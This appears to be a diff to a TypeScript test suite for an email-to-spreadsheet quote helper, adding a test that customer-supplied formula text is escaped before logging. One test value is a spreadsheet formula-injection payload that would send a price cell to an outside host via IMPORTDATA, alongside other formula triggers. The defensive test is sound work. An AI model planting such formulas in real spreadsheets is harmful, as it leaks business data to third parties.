@@ -53,6 +53,7 @@ interface Office {
   status?: number;
   validTo?: string;
   bodies?: readonly string[];
+  subject?: string;
   tests?: readonly Row[];
 }
 
@@ -62,6 +63,7 @@ function openOffice({
   status = 200,
   validTo = '2999-12-31',
   bodies = [],
+  subject = 'Fence',
   tests = [],
 }: Office) {
   const sheets = new Map<string, Row[]>();
@@ -74,7 +76,7 @@ function openOffice({
     { getPlainBody: () => 'An older message about 99 metres' },
     {
       getPlainBody: () => body,
-      getSubject: () => 'Fence',
+      getSubject: () => subject,
       createDraftReply: (text: string) => void drafts.push(text),
     },
   ];
@@ -245,6 +247,18 @@ describe('the quote helper', () => {
       'The prices are past their date. Switched off.',
     ]);
   });
+
+  it.each(['=IMPORTDATA("https://example.com/?"&Prices!C2)', '+A1', '-A1', '@SUM(A1)', '\t=A1'])(
+    'logs what a customer wrote as words, where the sheet would work it out: %s',
+    (formula) => {
+      const reading = { lines: [of(steel, 20)], check: [formula] };
+      const bodies = [`20 metres of steel. ${formula}`];
+      const office = openOffice({ reads: () => reading, bodies, subject: formula });
+      office.call('run');
+      const [, subject, outcome, why] = office.rowsOf('Log').at(-1) ?? [];
+      expect([subject, outcome, why]).toEqual([`'${formula}`, 'CHECK', `'${formula.trim()}`]);
+    },
+  );
 
   it('goes on with the next email where the model fails', () => {
     const office = openOffice({ status: 503, bodies: ['22m steel', 'My lawyer'] });
